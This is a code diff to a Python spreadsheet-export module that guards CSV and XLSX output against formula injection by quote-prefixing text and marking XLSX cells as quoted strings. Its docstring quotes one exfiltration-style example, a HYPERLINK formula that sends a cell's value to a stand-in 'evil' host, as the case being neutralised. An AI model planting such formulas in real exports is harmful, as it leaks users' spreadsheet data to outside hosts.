@@ -4,10 +4,12 @@ two decimals in XLSX.
 
 Every spreadsheet the project writes goes through `cell` (tests/test_exports_neutralised.py
 checks that nothing else writes one), so no text can become a formula: a unit named
-`=HYPERLINK("http://evil/?"&A1,"click")` is written as text, prefixed with a quote as OWASP's
-CSV-injection guidance says, and in XLSX stored as a string cell as well. Only values the
-code computes (Decimal, int, float, dates) are written as numbers; text that looks like one
-("-1" typed into a name) is text and gets the prefix."""
+`=HYPERLINK("http://evil/?"&A1,"click")` is written as text. In CSV, which has no types, it
+is prefixed with a quote as OWASP's CSV-injection guidance says. In XLSX it is a string cell
+(never evaluated) carrying the quote prefix style, as Excel stores a cell typed with a
+leading `'`: it shows exactly the name, and stays text when edited. Only values the code
+computes (Decimal, int, float, dates) are written as numbers; text that looks like one ("-1"
+typed into a name) is text, quoted the same way."""
 
 import csv
 import io
@@ -39,28 +41,31 @@ class Sheet:
     rows: Sequence[Sequence[Any]]
 
 
+def reads_as_formula(text: str) -> bool:
+    """Whether a spreadsheet would evaluate the text, typed or pasted into a cell."""
+    return text.startswith(_FORMULA_START) or bool(_FORMULA_AFTER_SEPARATOR.search(text))
+
+
 def neutralise(text: str) -> str:
-    """Text that a spreadsheet would evaluate, prefixed with `'` so that it shows as it is."""
-    if text.startswith(_FORMULA_START) or _FORMULA_AFTER_SEPARATOR.search(text):
-        return "'" + text
-    return text
+    """For CSV: text that a spreadsheet would evaluate, prefixed with `'`."""
+    return "'" + text if reads_as_formula(text) else text
 
 
 def cell(value: Any, fmt: Literal["csv", "xlsx"]) -> Any:
     """A value as a spreadsheet cell: numbers and dates the code computed stay what they are
-    (Decimal as exact text in CSV); everything else is neutralised text."""
+    (Decimal as exact text in CSV); everything else is text, neutralised in CSV, as it is in
+    XLSX (where append_row makes it a quoted string cell)."""
     if value is None:
         return ""
     if isinstance(value, Decimal):
         return format(value, "f") if fmt == "csv" else value
     if isinstance(value, int | float | date) and not isinstance(value, bool):
         return value
-    text = neutralise(str(value))
-    if fmt == "xlsx":
-        # A worksheet cannot hold most control characters (openpyxl refuses the whole file):
-        # a name stored before names refused them is shown with U+FFFD where one was.
-        text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", text)
-    return text
+    if fmt == "csv":
+        return neutralise(str(value))
+    # A worksheet cannot hold most control characters (openpyxl refuses the whole file): a
+    # name stored before names refused them is shown with U+FFFD where one was.
+    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(value))
 
 
 def csv_bytes(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
@@ -81,11 +86,14 @@ def csv_response(sheet: Sheet, filename: str) -> Response:
 
 
 def append_row(worksheet: Worksheet, row: Sequence[Any]) -> None:
-    """One row of cells; text is a string cell (openpyxl would store "=..." as a formula)."""
+    """One row of cells. Text is a string cell (openpyxl would store "=..." as a formula),
+    with the quote prefix when a spreadsheet would read it as one."""
     worksheet.append([cell(value, "xlsx") for value in row])
     for written in worksheet[worksheet.max_row]:
         if isinstance(written.value, str):
             written.data_type = "s"
+            if reads_as_formula(written.value):
+                written.quotePrefix = True
         elif isinstance(written.value, Decimal):
             written.number_format = "0.00"
 
